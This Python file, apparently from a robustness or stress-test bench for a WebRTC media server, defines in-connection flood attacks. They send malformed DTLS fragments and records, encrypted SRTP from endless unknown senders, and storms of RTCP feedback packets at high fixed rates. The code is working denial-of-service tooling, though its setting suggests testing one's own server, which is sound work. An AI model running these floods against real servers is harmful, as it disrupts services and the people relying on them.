"""
Attacks by datagrams from inside a connection: under keys that were honestly agreed.

What is encrypted cannot be told from honest media before it is decrypted. Sources: RFC 6347 (4.2.3,
how DTLS is cut in pieces), RFC 4585 (6), RFC 3550 (6).
"""

import os
import struct
from abc import abstractmethod
from collections.abc import Iterator
from itertools import count, cycle, islice

from pylibsrtp import Session

from bench.siege import sdp
from bench.siege.attack import Attack
from bench.siege.foothold import Foothold
from bench.siege.handshakes import silent
from bench.siege.peer import Peer

RECORD, HANDSHAKE = struct.Struct("!BHHHIH"), struct.Struct("!BBHHBHBH")
DTLS_RATE, SSRC_RATE, RTCP_RATE, MEDIA_RATE = 5_000, 3_000, 3_000, 100
PICTURE = struct.Struct("!BBHII")
EACH_SESSION = 500  # new SSRCs; one that knows thousands is slow itself
NACKED = 200  # packets asked for again in one message of 800 bytes
LONGEST = 1_300


class Inside(Attack):
    """From one connection that has come about."""

    tabs = 1
    rate: int
    deed = "datagrams"

    def claims(self, seconds: float) -> dict[str, float]:
        return {self.deed: self.rate * seconds}

    @abstractmethod
    def datagrams(self, peer: Peer) -> Iterator[bytes]:
        """What is sent, without an end."""

    def run(self, guest: Foothold) -> None:
        peer = guest.connected(guest.tabs[0])
        self.send_all(guest, [peer])
        peer.close()

    def send_all(self, guest: Foothold, peers: list[Peer]) -> None:
        """All that `datagrams` makes, to each of the peers by turns."""
        made = [self.datagrams(peer) for peer in peers]

        def send(due: int) -> None:
            for peer, datagrams in zip(peers, made, strict=True):
                peer.keep()
                for datagram in islice(datagrams, max(1, due // len(peers))):
                    guest.done[self.deed if peer.send(datagram) else "datagrams not taken"] += 1

        guest.at_rate(self.rate, send)


class DtlsFragments(Inside):
    """Pieces of messages that never end, and records of all kinds, before encryption and after."""

    name = "dtls"
    tabs = 2
    rate = DTLS_RATE

    def run(self, guest: Foothold) -> None:
        peers = [guest.connected(guest.tabs[0]), silent(guest, guest.tabs[1])]
        self.send_all(guest, peers)
        for peer in peers:
            peer.close()

    def datagrams(self, peer: Peer) -> Iterator[bytes]:
        return map(dtls_garbage, count())


def dtls_garbage(number: int) -> bytes:
    """What no end of DTLS needs; each is made in another way than the one before."""
    makes = (_piece, _piece, _tiny_pieces, _record, _garbage, _hello)
    return makes[number % len(makes)](number)


def _wrapped(kind: int, epoch: int, number: int, body: bytes) -> bytes:
    """One record of DTLS 1.2; `number` counts up, as it has to."""
    return RECORD.pack(kind, 0xFEFD, epoch, number >> 32, number & 0xFFFFFFFF, len(body)) + body


def _piece(number: int, size: int = 1000) -> bytes:
    """A piece of a message of 16 MB, each of another message."""
    total, offset = 0xFFFFFF, number * 977 % 0xFFF000
    head = HANDSHAKE.pack(
        number % 21, total >> 16, total & 0xFFFF, number & 0xFFFF, offset >> 16, offset & 0xFFFF,
        size >> 16, size & 0xFFFF,
    )  # fmt: skip
    return _wrapped(22, 0, number, head + bytes(size))


def _tiny_pieces(number: int) -> bytes:
    """Many pieces of one byte in one datagram."""
    return b"".join(_piece(number * 40 + each, 1) for each in range(40))


def _record(number: int) -> bytes:
    """Alerts, changes of the cipher and data, of this epoch and others."""
    return _wrapped(20 + number % 5, number % 3, number, os.urandom(2 + number % 60))


def _garbage(number: int) -> bytes:
    return bytes([20 + number % 44]) + os.urandom(number % LONGEST)


def _hello(number: int) -> bytes:
    """A ClientHello with nothing in it that anybody could choose."""
    body = b"\xfe\xfd" + os.urandom(32) + bytes(2) + b"\x00\x02\xff\xff\x01\x00"
    head = HANDSHAKE.pack(1, 0, len(body), number & 0xFFFF, 0, 0, 0, len(body))
    return _wrapped(22, 0, number, head + body)


class UnknownSsrcs(Inside):
    """Well encrypted media, each packet of a sender that was never heard of."""

    name = "srtp-ssrcs"
    rate = SSRC_RATE
    deed = "new SSRCs"

    def datagrams(self, peer: Peer) -> Iterator[bytes]:
        payload_types = cycle([sdp.VP8, sdp.OPUS, sdp.RTX, 77])
        for number in count():
            if number % EACH_SESSION == 0:
                session = peer.session()
            head = PICTURE.pack(
                0x80, next(payload_types), number & 0xFFFF, number, 1 << 20 | number
            )
            yield session.protect(head + bytes(60))


class RtcpStorm(Inside):
    """Reports of every kind about what the server sends, beside media that it sends back."""

    name = "rtcp"
    rate = RTCP_RATE
    deed = "RTCP packets"

    def datagrams(self, peer: Peer) -> Iterator[bytes]:
        session, sent = peer.session(), sdp.ssrcs(peer.answer) or [1]
        packets = cycle([each for ssrc in sent for each in _reports(ssrc)])
        for number in count():
            if number % (RTCP_RATE // MEDIA_RATE) == 0:
                peer.send(_media(session, number // (RTCP_RATE // MEDIA_RATE)))
            yield session.protect_rtcp(next(packets))


def _media(session: Session, number: int) -> bytes:
    """A packet of a picture, so that there is something to be asked for again."""
    head = PICTURE.pack(0x80, sdp.VP8, number & 0xFFFF, number * 3000, sdp.PICTURE_SSRC)
    return session.protect(head + b"\x10\x00" + bytes(1000))


def _rtcp(count_or_format: int, kind: int, body: bytes) -> bytes:
    return struct.pack("!BBH", 0x80 | count_or_format, kind, len(body) // 4) + body


def _reports(ssrc: int) -> list[bytes]:
    both = struct.pack("!II", sdp.PICTURE_SSRC, ssrc)
    lost = b"".join(struct.pack("!HH", number * 17 & 0xFFFF, 0xFFFF) for number in range(NACKED))
    nack = _rtcp(1, 205, both + lost[: 4 * NACKED - 40])
    pli = _rtcp(1, 206, both)
    fir = _rtcp(4, 206, both + struct.pack("!II", ssrc, 0))
    remb = _rtcp(15, 206, both[:4] + bytes(4) + b"REMB" + struct.pack("!BBHI", 1, 0, 1, ssrc))
    block = struct.pack("!IIIIII", ssrc, 0xFF000000, 0xFFFFFFFF, 0, 0, 0)
    report = _rtcp(31, 201, both[:4] + block * 31)
    sender = _rtcp(31, 200, both[:4] + os.urandom(20) + block * 31)
    empty = _rtcp(0, 201, both[:4])
    names = _rtcp(1, 202, both[:4] + bytes([1, 255]) + b"x" * 255 + bytes(3))
    bye = _rtcp(31, 203, struct.pack("!I", ssrc) * 31)
    compound = empty + nack[:400] + pli * 20 + remb * 10
    long = empty + (names * 4)[: LONGEST - LONGEST % 4 - 8]
    cc = _rtcp(15, 205, both + struct.pack("!HHI", 1, 0xFFFF, 1 << 8) + bytes(8))
    single = [nack, pli, fir, remb, report, sender, names, bye, cc]
    return [*single, *(empty + each for each in single[:4]), compound, long, empty * 100]
